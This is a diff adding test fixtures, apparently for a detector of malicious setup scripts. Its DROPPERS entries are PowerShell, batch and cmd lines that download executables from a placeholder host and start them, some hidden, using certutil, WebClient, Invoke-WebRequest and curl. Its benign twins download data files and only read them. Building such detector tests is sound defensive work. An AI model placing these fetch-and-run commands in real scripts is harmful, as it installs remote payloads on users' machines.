@@ -198,6 +198,25 @@ DROPPERS = {
         "scripts/setup.ps1": "$t = irm https://dl.cache-upd.example.net/s.ps1\n"
         "& ([scriptblock]::Create($t))\n"
     },
+    "powershell download saved to a file, then started": {
+        "scripts/setup.ps1": "Invoke-WebRequest https://dl.cache-upd.example.net/a.exe "
+        "-OutFile $env:TEMP\\a.exe\n"
+        "Start-Process $env:TEMP\\a.exe -WindowStyle Hidden\n"
+    },
+    "webclient file download to a path variable, then the call operator": {
+        "scripts/setup.ps1": '$p = "$env:TEMP\\w.exe"\n'
+        "(New-Object Net.WebClient).DownloadFile('https://dl.cache-upd.example.net/w', $p)\n"
+        "& $p\n"
+    },
+    "certutil download, then started from cmd": {
+        "scripts/setup.bat": "@echo off\n"
+        "certutil -urlcache -split -f https://dl.cache-upd.example.net/a.exe %TEMP%\\a.exe\n"
+        "start /b %TEMP%\\a.exe\n"
+    },
+    "cmd curl to a temp file, then run by its path": {
+        "scripts/setup.cmd": "curl -sLo %TEMP%\\b.exe https://dl.cache-upd.example.net/b.exe"
+        " && %TEMP%\\b.exe\n"
+    },
 }
 DROPPER_TWINS = {
     "python download of data, then a tool reads it": {
@@ -205,6 +224,14 @@ DROPPER_TWINS = {
         "DATA = 'prices.csv'\n"
         "urllib.request.urlretrieve('https://data.example.org/prices.csv', DATA)\n"
         "subprocess.run(['wc', '-l', DATA])\n"
+    },
+    "powershell download of a data file, then read": {
+        "scripts/setup.ps1": "Invoke-WebRequest https://data.example.org/d.csv -OutFile d.csv\n"
+        "Import-Csv d.csv | Measure-Object\n"
+    },
+    "bits transfer of a file that is only unpacked": {
+        "scripts/setup.ps1": "Start-BitsTransfer -Source https://data.example.org/m.zip "
+        "-Destination m.zip\nExpand-Archive m.zip -DestinationPath models\n"
     },
     "powershell request for JSON, fields printed": {
         "scripts/setup.ps1": "$r = Invoke-RestMethod -Uri https://api.example.org/v1/items\n"
